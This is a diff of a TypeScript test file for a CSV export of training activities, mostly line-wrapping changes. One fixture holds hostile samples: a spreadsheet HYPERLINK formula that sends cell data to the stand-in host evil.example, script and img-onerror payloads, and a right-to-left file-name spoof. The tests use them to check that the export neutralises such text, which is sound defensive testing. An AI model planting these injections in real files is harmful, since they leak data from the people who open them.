@@ -7,7 +7,16 @@ import { syntheticActivities } from '../../scripts/bench/log-data';
 import { draft } from '../support/helpers';
 
 function activity(overrides: Partial<Activity> = {}): Activity {
-  return { ...draft(), id: 'a1', capturedBy: 'detected', createdAt: 1, updatedAt: 1, dedupKey: 'k', format: 'online', ...overrides };
+  return {
+    ...draft(),
+    id: 'a1',
+    capturedBy: 'detected',
+    createdAt: 1,
+    updatedAt: 1,
+    dedupKey: 'k',
+    format: 'online',
+    ...overrides,
+  };
 }
 
 function parse(csv: string) {
@@ -33,11 +42,22 @@ describe('activitiesToCsv', () => {
       ['nsca', '1', 'CEU', '10', 'CEC'],
       ['acsm', '10', 'CEC', '10', 'CEC'],
     ]);
-    expect(data[0]).toMatchObject({ activity_id: 'a1', completed_on: '2026-09-14', provider: 'ace', course_code: 'CEP251107', format: 'online' });
+    expect(data[0]).toMatchObject({
+      activity_id: 'a1',
+      completed_on: '2026-09-14',
+      provider: 'ace',
+      course_code: 'CEP251107',
+      format: 'online',
+    });
   });
 
   it('writes one row with empty credit columns for an activity without credits, and decimals with a point', () => {
-    const { data } = parse(activitiesToCsv([activity({ credits: [] }), activity({ id: 'a2', credits: [{ kind: 'CEU', amount: 0.15, unit: 'CEU', hours: 1.5 }] })]));
+    const { data } = parse(
+      activitiesToCsv([
+        activity({ credits: [] }),
+        activity({ id: 'a2', credits: [{ kind: 'CEU', amount: 0.15, unit: 'CEU', hours: 1.5 }] }),
+      ]),
+    );
     expect(data).toHaveLength(2);
     expect(data[0]).toMatchObject({ credit_kind: '', amount: '', unit: '', certifying_body: '', contact_hours: '' });
     expect(data[1]).toMatchObject({ amount: '0.15', contact_hours: '1.5' });
@@ -59,12 +79,17 @@ describe('activitiesToCsv', () => {
 
 describe('hostile page text in the CSV', () => {
   /** As the log holds it: parsed by the schema, as every write is. */
-  const hostile = activitySchema.parse(activity({
-    title: '=HYPERLINK("https://evil.example/?c="&A1,"Open") <img src=x onerror="alert(1)"> \u202efdp.exe\u202c\u0007 Core…',
-    organizer: '@SUM(1+1)\u0000', provider: undefined, courseCode: '+CEP\u001b1',
-    credits: [{ kind: 'CEU', amount: 1, unit: '-1+1\u0085', hours: 10 }],
-    notes: '-2+3\tcmd\r\nline 2, "quoted" <script>alert(1)</script>\u0000\u2066',
-  }));
+  const hostile = activitySchema.parse(
+    activity({
+      title:
+        '=HYPERLINK("https://evil.example/?c="&A1,"Open") <img src=x onerror="alert(1)"> \u202efdp.exe\u202c\u0007 Core…',
+      organizer: '@SUM(1+1)\u0000',
+      provider: undefined,
+      courseCode: '+CEP\u001b1',
+      credits: [{ kind: 'CEU', amount: 1, unit: '-1+1\u0085', hours: 10 }],
+      notes: '-2+3\tcmd\r\nline 2, "quoted" <script>alert(1)</script>\u0000\u2066',
+    }),
+  );
   const rtl = activity({ id: 'a2', title: 'تمارين المقاومة\u200f · אימון 💪🏽 🏋️‍♀️', notes: 'Individual’s “Why”' });
 
   it('writes no control character but the line breaks and tabs of notes: the schema removed them before the log held them', () => {
@@ -79,17 +104,28 @@ describe('hostile page text in the CSV', () => {
     expect(errors).toEqual([]);
     expect(data).toHaveLength(2);
     expect(data[0]).toMatchObject({
-      title: `'${hostile.title}`, provider: `'${hostile.organizer}`, course_code: `'${hostile.courseCode}`, unit: `'${hostile.credits[0].unit}`,
+      title: `'${hostile.title}`,
+      provider: `'${hostile.organizer}`,
+      course_code: `'${hostile.courseCode}`,
+      unit: `'${hostile.credits[0].unit}`,
       notes: `'${hostile.notes}`,
     });
-    expect(hostile.title).toBe('=HYPERLINK("https://evil.example/?c="&A1,"Open") <img src=x onerror="alert(1)"> fdp.exe Core…');
+    expect(hostile.title).toBe(
+      '=HYPERLINK("https://evil.example/?c="&A1,"Open") <img src=x onerror="alert(1)"> fdp.exe Core…',
+    );
     expect(data[1]).toMatchObject({ title: rtl.title, notes: rtl.notes });
   });
 });
 
 describe('csvLines', () => {
   it('written a page at a time after the header, gives the same file as the one-piece export', () => {
-    const many = Array.from({ length: 25 }, (_, i) => activity({ id: `a${i}`, title: i % 3 ? `Course ${i}` : `=Course, "${i}"`, credits: i % 2 ? [] : draft().credits }));
+    const many = Array.from({ length: 25 }, (_, i) =>
+      activity({
+        id: `a${i}`,
+        title: i % 3 ? `Course ${i}` : `=Course, "${i}"`,
+        credits: i % 2 ? [] : draft().credits,
+      }),
+    );
     const pages = [many.slice(0, 7), many.slice(7, 14), [], many.slice(14)];
     expect(CSV_HEADER + pages.map(csvLines).join('')).toBe(activitiesToCsv(many));
     expect(parse(activitiesToCsv(many)).data.map((r) => r.activity_id)).toEqual(many.map((a) => a.id));
@@ -98,12 +134,28 @@ describe('csvLines', () => {
 
 /** The file as papaparse's unparse writes it, from one object per row: what the export wrote before it wrote its lines itself. */
 function papaparseCsv(activities: readonly Activity[]): string {
-  const rows = activities.flatMap((a) => (a.credits.length === 0 ? [undefined] : a.credits).map((c: Credit | undefined) => ({
-    activity_id: a.id, completed_on: a.completedOn, title: a.title, provider: a.provider ?? a.organizer ?? '', credit_kind: c?.kind ?? '',
-    amount: c ? String(c.amount) : '', unit: c?.unit ?? '', certifying_body: c?.body ?? '', contact_hours: c ? String(c.hours) : '',
-    course_code: a.courseCode ?? '', format: a.format ?? '', source_url: a.sourceUrl ?? '', certificate_url: a.certificateUrl ?? '', notes: a.notes ?? '',
-  })));
-  const lines = rows.length === 0 ? '' : `${Papa.unparse(rows, { columns: [...CSV_COLUMNS], header: false, newline: '\r\n', escapeFormulae: /^[=+\-@\t\r]/ })}\r\n`;
+  const rows = activities.flatMap((a) =>
+    (a.credits.length === 0 ? [undefined] : a.credits).map((c: Credit | undefined) => ({
+      activity_id: a.id,
+      completed_on: a.completedOn,
+      title: a.title,
+      provider: a.provider ?? a.organizer ?? '',
+      credit_kind: c?.kind ?? '',
+      amount: c ? String(c.amount) : '',
+      unit: c?.unit ?? '',
+      certifying_body: c?.body ?? '',
+      contact_hours: c ? String(c.hours) : '',
+      course_code: a.courseCode ?? '',
+      format: a.format ?? '',
+      source_url: a.sourceUrl ?? '',
+      certificate_url: a.certificateUrl ?? '',
+      notes: a.notes ?? '',
+    })),
+  );
+  const lines =
+    rows.length === 0
+      ? ''
+      : `${Papa.unparse(rows, { columns: [...CSV_COLUMNS], header: false, newline: '\r\n', escapeFormulae: /^[=+\-@\t\r]/ })}\r\n`;
   return CSV_HEADER + lines;
 }
 
@@ -115,15 +167,35 @@ describe('the CSV writer', () => {
 
   it('quotes and neutralizes any text exactly as papaparse does', () => {
     // Text made of the characters that matter: formula starts, quotes, separators, line breaks, spaces, a byte-order mark.
-    const text = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ' ', '\uFEFF', "'", 'a', 'é', '日', '💪'), maxLength: 8 });
-    const credit = fc.record({ kind: fc.constantFrom('CEC' as const, 'CEU' as const), amount: fc.double({ min: 0.01, max: 100, noNaN: true }), unit: text, body: fc.option(fc.constant('ace' as const), { nil: undefined }), hours: fc.double({ min: 0, max: 1000, noNaN: true }) });
-    const anActivity = fc.record({
-      id: text, title: text, organizer: text, courseCode: fc.option(text, { nil: null }), sourceUrl: fc.option(text, { nil: null }),
-      certificateUrl: fc.option(text, { nil: null }), notes: fc.option(text, { nil: undefined }), credits: fc.array(credit, { maxLength: 3 }),
-    }).map((fields) => activity({ ...fields, provider: undefined }));
-    fc.assert(fc.property(fc.array(anActivity, { maxLength: 5 }), (activities) => {
-      expect(activitiesToCsv(activities)).toBe(papaparseCsv(activities));
-    }), { numRuns: 500 });
+    const text = fc.string({
+      unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ' ', '\uFEFF', "'", 'a', 'é', '日', '💪'),
+      maxLength: 8,
+    });
+    const credit = fc.record({
+      kind: fc.constantFrom('CEC' as const, 'CEU' as const),
+      amount: fc.double({ min: 0.01, max: 100, noNaN: true }),
+      unit: text,
+      body: fc.option(fc.constant('ace' as const), { nil: undefined }),
+      hours: fc.double({ min: 0, max: 1000, noNaN: true }),
+    });
+    const anActivity = fc
+      .record({
+        id: text,
+        title: text,
+        organizer: text,
+        courseCode: fc.option(text, { nil: null }),
+        sourceUrl: fc.option(text, { nil: null }),
+        certificateUrl: fc.option(text, { nil: null }),
+        notes: fc.option(text, { nil: undefined }),
+        credits: fc.array(credit, { maxLength: 3 }),
+      })
+      .map((fields) => activity({ ...fields, provider: undefined }));
+    fc.assert(
+      fc.property(fc.array(anActivity, { maxLength: 5 }), (activities) => {
+        expect(activitiesToCsv(activities)).toBe(papaparseCsv(activities));
+      }),
+      { numRuns: 500 },
+    );
   });
 });
 
@@ -131,7 +203,12 @@ describe('CsvInOrder', () => {
   it('puts activities that come in any order in the place of their id, leaving out the ones not asked for and the ids none came for', () => {
     const many = syntheticActivities(30);
     const csv = new CsvInOrder([...[...many].reverse(), { id: 'deleted-meanwhile' }]);
-    const shuffled = [...many.slice(10, 20), { ...many[0], id: 'added-meanwhile' }, ...many.slice(20), ...many.slice(0, 10)];
+    const shuffled = [
+      ...many.slice(10, 20),
+      { ...many[0], id: 'added-meanwhile' },
+      ...many.slice(20),
+      ...many.slice(0, 10),
+    ];
     csv.add(shuffled.slice(0, 15));
     csv.add([]);
     csv.add(shuffled.slice(15));
